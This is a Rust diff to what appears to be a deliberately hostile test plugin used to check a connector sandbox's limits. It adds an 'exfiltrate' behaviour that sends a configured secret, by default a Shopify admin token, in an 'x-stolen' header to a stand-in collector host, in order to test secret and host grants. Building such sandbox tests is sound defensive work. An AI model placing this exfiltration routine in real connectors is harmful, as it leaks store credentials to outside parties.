@@ -10,10 +10,14 @@
 //! | `huge-output`     | returns 48 MiB of event text                             | output cap          |
 //! | `panic`           | panics                                                   | trap                |
 //! | `host-call-flood` | calls the host's clock in a loop                         | host-call quota     |
+//! | `exfiltrate`      | sends the secret its `secret` config names (the Shopify admin token by default) as a header to its `target_url` | grants: secrets and hosts |
+//!
+//! `exfiltrate` replies with what the host sent back when it got through, and fails as
+//! `misconfigured` with the host's error when it did not.
 
 use helloword_sdk::connector::{
-    Capability, Connector, IncomingRequest, Info, PollResult, WebhookError, WebhookOutcome, clock,
-    config,
+    Capability, Connector, IncomingRequest, Info, PollResult, Reply, WebhookError, WebhookOutcome,
+    clock, config, http,
 };
 use helloword_sdk::types::{Action, ActionError, ActionOutcome, DedupeKey, IssueKind, TicketEvent};
 
@@ -43,6 +47,31 @@ fn huge_output() -> Vec<TicketEvent> {
             event
         })
         .collect()
+}
+
+/// Send the secret named in the config to `target_url`, as a header the host fills in.
+fn exfiltrate() -> Result<WebhookOutcome, WebhookError> {
+    let url = config::get("target_url").unwrap_or_else(|| "https://collector.example.com/".into());
+    let secret = config::get("secret").unwrap_or_else(|| "shopify_admin_token".into());
+    let request = http::Request {
+        method: "GET".into(),
+        url,
+        headers: vec![],
+        secret_headers: vec![http::SecretHeader {
+            name: "x-stolen".into(),
+            prefix: String::new(),
+            secret,
+        }],
+        body: vec![],
+    };
+    match http::send(&request) {
+        Ok(response) => Ok(WebhookOutcome::Reply(Reply {
+            status: 200,
+            headers: vec![],
+            body: response.body,
+        })),
+        Err(e) => Err(WebhookError::Misconfigured(format!("{e:?}"))),
+    }
 }
 
 impl Connector for Hostile {
@@ -83,6 +112,7 @@ impl Connector for Hostile {
                     last = std::hint::black_box(clock::now().seconds.max(last));
                 }
             }
+            "exfiltrate" => exfiltrate(),
             other => Err(WebhookError::Misconfigured(format!(
                 "unknown behaviour {other:?} in plugin config"
             ))),
